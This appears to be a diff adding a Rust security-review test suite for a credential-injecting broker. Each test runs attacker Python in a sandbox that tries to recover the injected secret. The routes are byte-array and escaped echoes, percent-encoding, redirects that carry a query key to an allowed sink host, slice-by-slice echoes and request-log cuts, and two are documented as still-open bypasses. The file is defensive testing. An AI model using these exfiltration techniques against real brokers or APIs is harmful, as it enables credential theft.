@@ -1,0 +1,624 @@
+//! An eighth attack review, run as the process inside the sandbox: each test performs one
+//! attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
+//! kernel and real upstreams on the test namespace's `lo`, and asserts the secure
+//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed:
+//! it fails against the current agent.
+//!
+//! Angle: the broker's answer as an exit for the credential a call carried. The caller
+//! holds a handle; the broker injects the real value upstream; the upstream reflects
+//! what it got, in the forms ordinary server software writes bytes and strings in
+//! (a byte array as Node, Python, Java, Go and .NET print one; escaped text in a
+//! response header; a slice of a request header, as API gateways' mapping templates
+//! and expression languages offer), and the test looks for the value in what the
+//! caller got back.
+//!
+//! Everything lives on `lo` in the test's own network namespace; dnsmasq answers the
+//! test names; the upstream is a Python HTTPS server started by the test.
+
+use std::path::PathBuf;
+
+use hb_tests::{
+    PythonServer, TestEnv, private_netns,
+    sandboxed::nobody_broker_client,
+    upstream::{Dnsmasq, Leaf, PY_SERVE_HTTPS, TestCa},
+};
+use serde_json::Value;
+
+const DNS_PORT: u16 = 5480;
+
+/// The bearer credential of integration `e` (host `echo.test`): fake, made for this
+/// file. 40 characters of digits and letters past a public prefix, so its least run
+/// (`scrub::min_run`) is 8 characters.
+const SECRET: &str = "ghp_R8evw8Tok3nXyZaBcDeFgHiJkLmNoPqRs0AZ";
+
+/// A credential with symbols every few characters, as a password generator makes one
+/// (fake, made for this file): the characters percent-encoders disagree on (`!*'()~`).
+const SYMBOL_SECRET: &str = "Qz7!mK*2(pL~9)wX'4rT!8*nB~e";
+
+/// The credential of integration `q` (the `api_key` query parameter, host `echo.test`)
+/// in the redirect world: fake, made for this file.
+const QUERY_SECRET: &str = "qk_8mZr2Lw9Xc4Tn7Vb1Hs6Jd3Fg5Ky0PeW";
+
+/// The credential of integration `q`'s account `admin` in the redirect world: fake,
+/// made for this file.
+const ADMIN_SECRET: &str = "qk_Vt5nR8aLw2Hx7Cm4Ze9Bp3Uy6Dj1KsQo";
+
+/// An HTTPS upstream on `addr`:443 that reflects the request's `Authorization` header:
+/// - `/bytes?fmt=F`: the header's bytes as a byte array, the way server software prints
+///   one: `node_json` (`JSON.stringify` of a Node `Buffer`), `py_list` (Python's
+///   `list(bytes)`), `java` (`Arrays.toString(byte[])`), `go_v` (Go's `%v` of a
+///   `[]byte`), `node_inspect` (Node's `util.inspect` of a `Buffer`, all of it), `colon`
+///   (hex pairs joined with `:`), `dotnet` (.NET's `BitConverter.ToString`), `od` (hex
+///   pairs joined with spaces, as `od -An -tx1` or Go's `% x`);
+/// - `/header?enc=E`: an empty body and the header, encoded by `E` (`json_mixed`: every
+///   second character as a JSON `\uXXXX`; `html_mixed`: every third one as an HTML
+///   `&#…;`; `json_all`: every one as `\uXXXX`), in the answer's `X-Debug` header, as a
+///   debugging middleware reporting what it saw in a header;
+/// - `/pct?enc=E`: the header percent-encoded by encoder `E`, as a "self" or "next" link
+///   built from the request would hold it: `js` (`encodeURIComponent`: keeps
+///   `A-Za-z0-9-_.!~*'()`), `form` (`URLSearchParams` and Java's `URLEncoder`: keeps
+///   `A-Za-z0-9-_.*`, space as `+`), `php` (PHP's `urlencode`: keeps `A-Za-z0-9-_.`,
+///   space as `+`), `py` (Python's `quote`: keeps `A-Za-z0-9-_.~/`);
+/// - `/go?to=URL&…`: a 302 to `URL` with the request's whole query string appended, as
+///   an endpoint that moved (or a login or tracking redirect) keeps it;
+/// - on host `sink.test`, anything: `ok` (a host of the policy's `allow_domains`, which
+///   the sandbox reads: a paste or webhook-inspection service, a bucket it lists);
+/// - `/log?cut=N`: the path (query included) of every earlier request but those to
+///   `/log`, one a line, each cut to its first `N` characters and percent-encoded whole
+///   (`quote(p, safe="")`), as a provider's request-log API lists an organisation's
+///   recent calls in links to each;
+/// - `/slice?off=O&len=N`: the header's characters from `O`, `N` of them, as an API
+///   gateway's mapping template (`$input.params('Authorization').substring(O, O+N)`)
+///   or any API with an expression language over the request does.
+///
+/// Every request is one JSON line in `log`.
+const REFLECT_PY: &str = r#"
+import http.server, json, ssl, sys, urllib.parse
+addr, log, cert, key = sys.argv[1:5]
+def json_mixed(s):
+    return "".join("\\u%04X" % ord(c) if i % 2 else c for i, c in enumerate(s))
+def html_mixed(s):
+    return "".join("&#%d;" % ord(c) if i % 3 == 0 else c for i, c in enumerate(s))
+def json_all(s):
+    return "".join("\\u%04x" % ord(c) for c in s)
+BYTES = {
+    "node_json": lambda b: json.dumps({"type": "Buffer", "data": list(b)}, separators=(",", ":")),
+    "py_list": lambda b: repr(list(b)),
+    "java": lambda b: "[" + ", ".join(str(x if x < 128 else x - 256) for x in b) + "]",
+    "go_v": lambda b: "[" + " ".join(str(x) for x in b) + "]",
+    "node_inspect": lambda b: "<Buffer " + " ".join("%02x" % x for x in b) + ">",
+    "colon": lambda b: ":".join("%02x" % x for x in b),
+    "dotnet": lambda b: "-".join("%02X" % x for x in b),
+    "od": lambda b: " ".join("%02x" % x for x in b),
+}
+SEEN = []
+HEADER = {"json_mixed": json_mixed, "html_mixed": html_mixed, "json_all": json_all}
+PCT = {
+    "js": lambda s: urllib.parse.quote(s, safe="-_.!~*'()"),
+    "form": lambda s: urllib.parse.quote_plus(s, safe="*").replace("~", "%7E"),
+    "php": lambda s: urllib.parse.quote_plus(s, safe="").replace("~", "%7E"),
+    "py": lambda s: urllib.parse.quote(s),
+}
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def log_message(self, *a): pass
+    def setup(self):
+        self.request.do_handshake()
+        super().setup()
+    def answer(self, body, headers=()):
+        out = body.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/plain; charset=utf-8")
+        for k, v in headers:
+            self.send_header(k, v)
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+    def do_GET(self):
+        u = urllib.parse.urlparse(self.path)
+        q = {k: v[0] for k, v in urllib.parse.parse_qs(u.query).items()}
+        auth = self.headers.get("authorization", "")
+        host = self.headers.get("host", "")
+        with open(log, "a") as f:
+            f.write(json.dumps({"host": host, "path": self.path, "auth": auth}) + "\n")
+        if u.path != "/log":
+            SEEN.append(self.path)
+        if host.startswith("sink.test"):
+            self.answer("ok\n")
+        elif u.path == "/go":
+            to = q["to"]
+            self.send_response(302)
+            self.send_header("Location", to + ("&" if "?" in to else "?") + u.query)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+        elif u.path == "/log":
+            self.answer("".join(urllib.parse.quote(p[:int(q["cut"])], safe="") + "\n" for p in SEEN))
+        elif u.path == "/bytes":
+            self.answer("you sent: %s\n" % BYTES[q["fmt"]](auth.encode()))
+        elif u.path == "/header":
+            self.answer("", [("X-Debug", HEADER[q["enc"]](auth))])
+        elif u.path == "/pct":
+            self.answer("next: https://echo.test/items?page=2&token=%s\n" % PCT[q["enc"]](auth))
+        elif u.path == "/slice":
+            off, n = int(q["off"]), int(q["len"])
+            self.answer("you sent: %s\n" % auth[off:off + n])
+        else:
+            self.send_error(404)
+"#;
+
+/// A broker world: integration `e` (bearer, host `echo.test` on 203.0.113.10, GET),
+/// bound to policy `web`; its credential `secret`.
+struct World {
+    secret: &'static str,
+    env: TestEnv,
+    _upstream: PythonServer,
+    _dns: Dnsmasq,
+    dir: PathBuf,
+    log: PathBuf,
+}
+
+impl Drop for World {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.dir);
+    }
+}
+
+impl World {
+    fn new(name: &str) -> Self {
+        Self::with_secret(name, SECRET)
+    }
+
+    fn with_secret(name: &str, secret: &'static str) -> Self {
+        Self::build(name, secret, false)
+    }
+
+    /// With `redirects`: `broker.follow_redirects` on, integration `q` (the `api_key`
+    /// query parameter, host `echo.test`, credential [`QUERY_SECRET`]) bound to `web` as
+    /// well, and `sink.test` (the same server) in `web`'s `allow_domains`.
+    fn build(name: &str, secret: &'static str, redirects: bool) -> Self {
+        hb_tests::require_root();
+        private_netns(&["203.0.113.10"]);
+        let dir = std::env::temp_dir().join(format!("hb-review8-{name}-{}", std::process::id()));
+        let ca = TestCa::new(&dir, "trusted");
+        let leaf: Leaf = ca.issue("echo", &["echo.test", "sink.test"]);
+        let log = dir.join("reflect.jsonl");
+        std::fs::write(&log, "").expect("log");
+        let script = format!(
+            "import sys\nsys.argv = ['x', '203.0.113.10', {log:?}, {cert:?}, {key:?}]\n{REFLECT_PY}{PY_SERVE_HTTPS}",
+            log = log.display().to_string(),
+            cert = leaf.cert.display().to_string(),
+            key = leaf.key.display().to_string(),
+        );
+        let upstream = PythonServer::start(&script);
+        let dns = Dnsmasq::start(
+            "127.0.0.1",
+            DNS_PORT,
+            &[
+                ("echo.test", &["203.0.113.10"]),
+                ("sink.test", &["203.0.113.10"]),
+            ],
+            &[],
+            60,
+        );
+        let config = format!(
+            r#"
+{head}
+[[integration]]
+name = "e"
+auth = "bearer"
+hosts = ["echo.test"]
+methods = ["GET"]
+{q}
+[[policy]]
+name = "web"
+integrations = ["e"{q_bound}]
+{reach}
+"#,
+            head = hb_tests::tls_broker_config(
+                &ca.cert,
+                DNS_PORT,
+                if redirects {
+                    "follow_redirects = true\n"
+                } else {
+                    ""
+                }
+            ),
+            q = if redirects {
+                "\n[[integration]]\nname = \"q\"\nauth = { query = \"api_key\" }\nhosts = [\"echo.test\"]\nmethods = [\"GET\"]\n"
+            } else {
+                ""
+            },
+            q_bound = if redirects { ", \"q\"" } else { "" },
+            reach = if redirects {
+                "allow_domains = [\"sink.test\"]"
+            } else {
+                ""
+            },
+        );
+        let mut env = TestEnv::new(name, &config);
+        if redirects {
+            env.init_vault(&[
+                ("e", "bot", secret),
+                ("q", "bot", QUERY_SECRET),
+                ("q", "admin", ADMIN_SECRET),
+            ]);
+        } else {
+            env.init_vault(&[("e", "bot", secret)]);
+        }
+        env.start_agent();
+        Self {
+            secret,
+            env,
+            _upstream: upstream,
+            _dns: dns,
+            dir,
+            log,
+        }
+    }
+
+    /// Runs `script` (with `hb` a broker client, `attempt(f)`, and `h` a handle for
+    /// integration `e`) in a sandbox under policy `web` as user 65534; its JSON output.
+    fn in_sandbox(&self, script: &str) -> Value {
+        let script = format!("h = hb.handle(\"e\", \"bot\")[\"handle\"]\n{script}");
+        nobody_broker_client(&self.env, "web", &script, &[])
+    }
+
+    /// How many requests reached the upstream carrying the credential.
+    fn credentialed_requests(&self) -> usize {
+        std::fs::read_to_string(&self.log)
+            .expect("log")
+            .lines()
+            .map(|l| serde_json::from_str::<Value>(l).expect("record"))
+            .filter(|r| r["auth"] == format!("Bearer {}", self.secret))
+            .count()
+    }
+}
+
+/// The keys of `answers` (an object of per-case results) whose `recovered` holds
+/// `secret`.
+fn leaked_in(answers: &Value, secret: &str) -> Vec<String> {
+    answers
+        .as_object()
+        .expect("answers")
+        .iter()
+        .filter(|(_, v)| v["recovered"].as_str().unwrap_or_default().contains(secret))
+        .map(|(k, _)| k.clone())
+        .collect()
+}
+
+/// Every case of `answers` was answered (200) or refused as a fragment hit: the
+/// upstream was reached and reflected.
+fn assert_answered_or_refused(answers: &Value) {
+    for (case, v) in answers.as_object().expect("answers") {
+        assert!(
+            v["status"] == 200 || v["error"] == "credential_fragment",
+            "{case}: {v}"
+        );
+    }
+}
+
+/// What each case's answer gave the caller, for the `figure:` line: `leaked`, the
+/// broker error's code, or `redacted`.
+fn outcomes(answers: &Value, secret: &str) -> String {
+    answers
+        .as_object()
+        .expect("answers")
+        .iter()
+        .map(|(k, v)| {
+            let what = if v["recovered"].as_str().unwrap_or_default().contains(secret) {
+                "LEAKED".to_string()
+            } else if let Some(e) = v["error"].as_str() {
+                e.to_string()
+            } else {
+                "held".to_string()
+            };
+            format!("{k}={what}")
+        })
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+// FINDING: an upstream that prints the request's Authorization header as a byte array
+// (Node's `JSON.stringify(buffer)` → `{"type":"Buffer","data":[103,104,…]}`, Go's `%v`
+// of a `[]byte` → `[103 104 …]`, Python's/Java's `[103, 104, …]`, Node's
+// `util.inspect` → `<Buffer 67 68 …>`, .NET's `67-68-…`) hands the caller the whole
+// credential: `scrub/live.rs::forms` has no decimal or separated-hex form, the spread
+// view decodes NULs and escapes only, and the fragment watch (`scrub/fragments.rs`)
+// cuts the same forms into runs, so neither the whole value nor any run matches.
+/// A credential its upstream reflects as a byte array (decimal or hex, in the ways
+/// Node, Python, Java, Go, .NET and `od` print one) never reaches the caller.
+#[test]
+fn a_credential_reflected_as_a_byte_array_never_reaches_the_caller() {
+    let w = World::new("review8-bytes");
+    let fmts = [
+        "node_json",
+        "py_list",
+        "java",
+        "go_v",
+        "node_inspect",
+        "colon",
+        "dotnet",
+        "od",
+    ];
+    let got = w.in_sandbox(&format!(
+        r#"
+import re
+out = {{}}
+for fmt in {fmts}:
+    r = attempt(lambda: hb.request("GET", "https://echo.test/bytes?fmt=" + fmt, handle=h))
+    if "error" in r:
+        out[fmt] = {{"error": r["error"], "recovered": ""}}
+        continue
+    body = r.get("body", "")
+    # What the attacker does with it: read the numbers back as bytes.
+    if fmt in ("node_json", "py_list", "java", "go_v"):
+        nums = [int(x) % 256 for x in re.findall(r"-?\d+", body)]
+    else:
+        nums = [int(x, 16) for x in re.findall(r"\b[0-9a-fA-F]{{2}}\b", body)]
+    out[fmt] = {{"status": r["status"], "recovered": bytes(nums).decode("latin-1")}}
+print(json.dumps(out))
+"#,
+        fmts = serde_json::to_string(&fmts).expect("fmts"),
+    ));
+    assert_eq!(
+        w.credentialed_requests(),
+        fmts.len(),
+        "the credential did not reach the upstream"
+    );
+    println!("figure: {}", outcomes(&got, SECRET));
+    assert_answered_or_refused(&got);
+    let leaked = leaked_in(&got, SECRET);
+    assert!(
+        leaked.is_empty(),
+        "the credential came back to the caller as a byte array in {leaked:?}"
+    );
+}
+
+// FINDING: an upstream that reflects the credential into a response header with every
+// second character a JSON `\uXXXX` escape, or every third an HTML `&#…;` reference,
+// hands it to the caller: `broker/requests.rs::respond` decodes escapes in the body's
+// view (`cut_spread`) but scrubs header values as they are, where no whole form and no
+// run of 8 of any form matches (every escape at once is a form, so `json_all` held).
+/// A credential its upstream reflects into a response header with some or all of its
+/// characters escaped (JSON `\uXXXX`, HTML `&#…;`) never reaches the caller.
+#[test]
+fn a_credential_reflected_escaped_in_a_response_header_never_reaches_the_caller() {
+    let w = World::new("review8-header");
+    let encs = ["json_all", "json_mixed", "html_mixed"];
+    let got = w.in_sandbox(&format!(
+        r#"
+import html
+out = {{}}
+for enc in {encs}:
+    r = attempt(lambda: hb.request("GET", "https://echo.test/header?enc=" + enc, handle=h))
+    if "error" in r:
+        out[enc] = {{"error": r["error"], "recovered": ""}}
+        continue
+    v = r["headers"].get("x-debug", "")
+    # What the attacker does with it: undo the escapes.
+    try:
+        v = json.loads('"' + v + '"', strict=False)
+    except Exception:
+        pass
+    out[enc] = {{"status": r["status"], "recovered": html.unescape(v)}}
+print(json.dumps(out))
+"#,
+        encs = serde_json::to_string(&encs).expect("encs"),
+    ));
+    assert_eq!(
+        w.credentialed_requests(),
+        encs.len(),
+        "the credential did not reach the upstream"
+    );
+    println!("figure: {}", outcomes(&got, SECRET));
+    assert_answered_or_refused(&got);
+    let leaked = leaked_in(&got, SECRET);
+    assert!(
+        leaked.is_empty(),
+        "the credential came back to the caller in a response header, escaped as {leaked:?}"
+    );
+}
+
+// FINDING (open): an upstream that echoes a slice of the request's Authorization header
+// at an offset and length the caller chooses (an API gateway's mapping template, a
+// GraphQL or SQL-like API exposing request headers to an expression, PostgREST's
+// `current_setting('request.headers')`) hands the caller the credential 7 characters
+// a call: each answer holds less than `scrub::min_run` (8) characters of it, so neither
+// the scrubber nor the fragment watch sees anything (`scrub/fragments.rs` says a
+// caller "learns at most n - 1 characters at each end of the value"; with an offset it
+// learns every part). No scrubber closes this: 1-character slices match nothing any
+// scrubber could look for. What would: a per-(caller, account) ledger of which of the
+// value's positions its answers have shown in runs of at least 5 characters (barring
+// past a share of the value's bits) narrows it to slices of 4 or fewer at the cost of
+// chance matches in large answers; the real fix is the operator's: an integration
+// whose hosts can echo request headers through an expression must not get a
+// credential a sandbox may not read (`DESIGN.md` should say so among residual risks).
+/// A credential its upstream hands back a slice at a time (each slice shorter than
+/// the least run the fragment watch looks for, at an offset the caller chooses) is not
+/// rebuilt by the caller.
+#[test]
+#[ignore = "open: an upstream echoing caller-chosen slices shorter than scrub::min_run hands over the credential a few characters a call; no scrubber fix (see the comment)"]
+fn a_credential_echoed_a_slice_at_a_time_is_not_rebuilt() {
+    let w = World::new("review8-slices");
+    // "Bearer " is 7 characters; slices of 7 (one less than the value's least run).
+    let got = w.in_sandbox(&format!(
+        r#"
+n = 7
+pieces = []
+errors = []
+for off in range(7, 7 + {len}, n):
+    r = attempt(lambda: hb.request("GET", "https://echo.test/slice?off=%d&len=%d" % (off, n), handle=h))
+    if "error" in r:
+        errors.append(r["error"])
+        continue
+    pieces.append(r["body"][len("you sent: "):].rstrip("\n"))
+print(json.dumps({{"slices": {{"recovered": "".join(pieces), "error": errors[0] if errors else None}}, "calls": len(pieces) + len(errors)}}))
+"#,
+        len = SECRET.len(),
+    ));
+    let calls = usize::try_from(got["calls"].as_u64().expect("calls")).expect("calls");
+    assert!(calls > 0);
+    let rebuilt = got["slices"]["recovered"].as_str().unwrap_or_default() == SECRET;
+    println!(
+        "figure: {calls} calls; the caller rebuilt the credential: {rebuilt}; first error: {}",
+        got["slices"]["error"]
+    );
+    assert!(
+        !rebuilt,
+        "the caller rebuilt the credential from {calls} slices"
+    );
+}
+
+/// A credential with symbols, reflected in a link percent-encoded as Python,
+/// JavaScript, the URL standard's form serializer (and Java's `URLEncoder`) or PHP
+/// encode it, never reaches the caller. `scrub/live.rs::forms` knows three sets of kept
+/// characters (RFC 3986's unreserved, those and `/`, none); the others' encodings of
+/// this value are found by the fragment watch (a run of 8 of a form), which refuses the
+/// answer and bars the caller, so each encoder is tried by its own sandbox.
+#[test]
+fn a_credential_percent_encoded_by_another_encoder_never_reaches_the_caller() {
+    let w = World::with_secret("review8-percent", SYMBOL_SECRET);
+    let encs = ["py", "js", "form", "php"];
+    let mut got = serde_json::Map::new();
+    for enc in encs {
+        let one = w.in_sandbox(&format!(
+            r#"
+import urllib.parse
+r = attempt(lambda: hb.request("GET", "https://echo.test/pct?enc={enc}", handle=h))
+if "error" in r:
+    out = {{"error": r["error"], "recovered": ""}}
+else:
+    # What the attacker does with it: read the link's query.
+    link = r["body"].split("next: ", 1)[1].strip()
+    q = urllib.parse.parse_qs(urllib.parse.urlparse(link).query)
+    out = {{"status": r["status"], "recovered": q.get("token", [""])[0]}}
+print(json.dumps(out))
+"#
+        ));
+        got.insert(enc.to_string(), one);
+    }
+    let got = Value::Object(got);
+    println!("figure: {}", outcomes(&got, SYMBOL_SECRET));
+    assert_eq!(
+        w.credentialed_requests(),
+        encs.len(),
+        "the credential did not reach the upstream"
+    );
+    let leaked = leaked_in(&got, SYMBOL_SECRET);
+    assert!(
+        leaked.is_empty(),
+        "the credential came back to the caller percent-encoded by {leaked:?}"
+    );
+}
+
+// FINDING: with `broker.follow_redirects` on, an upstream's redirect that keeps the
+// query string (an endpoint that moved, a login or tracking redirect) carries a query
+// credential to another host: `broker/outbound/mod.rs::Carry::redirect` drops the
+// credential the broker added (the `api_key` parameter it appends) when a hop leaves
+// the integration, but the `Location` the upstream wrote already holds it, and
+// `Decision::hop` judges the hop's host, scheme and port only. Any host the policy's
+// `allow_domains` names (which the sandbox can reach, and read back from) receives it.
+/// A redirect whose `Location` holds the call's credential is not followed to a host
+/// outside the integration.
+#[test]
+fn a_redirect_that_keeps_the_query_does_not_carry_the_credential_to_another_host() {
+    let w = World::build("review8-redirect", SECRET, true);
+    let got = w.in_sandbox(
+        r#"
+q = hb.handle("q", "bot")["handle"]
+r = attempt(lambda: hb.request("GET", "https://echo.test/go?to=https://sink.test/landed", handle=q))
+print(json.dumps({"status": r.get("status"), "error": r.get("error")}))
+"#,
+    );
+    let records: Vec<Value> = std::fs::read_to_string(&w.log)
+        .expect("log")
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("record"))
+        .collect();
+    let at_echo = records
+        .iter()
+        .filter(|r| {
+            r["host"]
+                .as_str()
+                .is_some_and(|h| h.starts_with("echo.test"))
+                && r["path"].as_str().is_some_and(|p| p.contains(QUERY_SECRET))
+        })
+        .count();
+    let at_sink = records
+        .iter()
+        .filter(|r| {
+            r["host"]
+                .as_str()
+                .is_some_and(|h| h.starts_with("sink.test"))
+                && r["path"].as_str().is_some_and(|p| p.contains(QUERY_SECRET))
+        })
+        .count();
+    println!(
+        "figure: the caller got status {} error {}; the credential reached sink.test in {at_sink} request(s)",
+        got["status"], got["error"]
+    );
+    assert_eq!(
+        at_echo, 1,
+        "the credential did not reach echo.test: {records:?}"
+    );
+    assert_eq!(at_sink, 0, "the credential reached sink.test");
+}
+
+// FINDING (open): the fragment watch looks for runs of the credentials a call carried
+// only (`scrub/fragments.rs`: "Only the one credential the call carried is looked
+// for"), and the scrubber for whole values only. A caller holding handles for two
+// accounts (or two integrations) reads one's credential, all but its last characters,
+// through a call made with the other: the account `admin` makes a call whose URL the
+// upstream's request log keeps (padded so that the log's cut leaves all but the last
+// character of the key), and account `bot` reads the organisation's request log (each
+// URL percent-encoded, as in a link, so the `api_key=` assignment family does not see
+// an assignment). The answer carries 34 of `admin`'s 35 characters: not the whole value
+// (no scrub), not a run of `bot`'s (no hit).
+// The fix (not small): watch, in every answer and in every request, for runs of the
+// credentials of every account the caller holds a handle for (`sightings::own_credentials`
+// lists them), not just the call's: a hit on any of them refuses the answer and bars the
+// caller from that account. Both sides must change together (checking answers alone
+// would make the refusal an oracle for guesses the caller sends under another handle),
+// and the cost grows with the caller's accounts (each `Current::fragments` is built once).
+/// A caller holding handles for two accounts does not read one's credential, in part,
+/// through a call made with the other.
+#[test]
+#[ignore = "open: the fragment watch looks for runs of the call's own credential only; another account's run (a request log's cut) passes, see the comment"]
+fn another_accounts_credential_cut_short_is_not_read_through_a_call_of_this_one() {
+    let w = World::build("review8-log", SECRET, true);
+    // "/pad/" and 15 characters, "?api_key=", then the key: the cut leaves all but its
+    // last character.
+    let cut = "/pad/".len() + 15 + "?api_key=".len() + ADMIN_SECRET.len() - 1;
+    let got = w.in_sandbox(&format!(
+        r#"
+admin = hb.handle("q", "admin")["handle"]
+bot = hb.handle("q", "bot")["handle"]
+first = attempt(lambda: hb.request("GET", "https://echo.test/pad/" + "p" * 15, handle=admin))
+r = attempt(lambda: hb.request("GET", "https://echo.test/log?cut={cut}", handle=bot))
+import urllib.parse
+lines = [urllib.parse.unquote(l) for l in r.get("body", "").splitlines()]
+pieces = [l.split("api_key=", 1)[1] for l in lines if "api_key=" in l]
+print(json.dumps({{"first": first.get("status", first.get("error")), "log": r.get("status", r.get("error")), "pieces": pieces}}))
+"#
+    ));
+    // The upstream has no /pad: a 404, logged all the same.
+    assert_eq!(got["first"], 404, "{got}");
+    let read = got["pieces"]
+        .as_array()
+        .expect("pieces")
+        .iter()
+        .filter_map(Value::as_str)
+        .filter(|p| ADMIN_SECRET.starts_with(p))
+        .map(str::len)
+        .max()
+        .unwrap_or(0);
+    println!(
+        "figure: the log call answered {}; the caller read {read} of the admin key's {} characters",
+        got["log"],
+        ADMIN_SECRET.len()
+    );
+    assert!(
+        read < 8,
+        "the caller read {read} characters of another account's credential"
+    );
+}
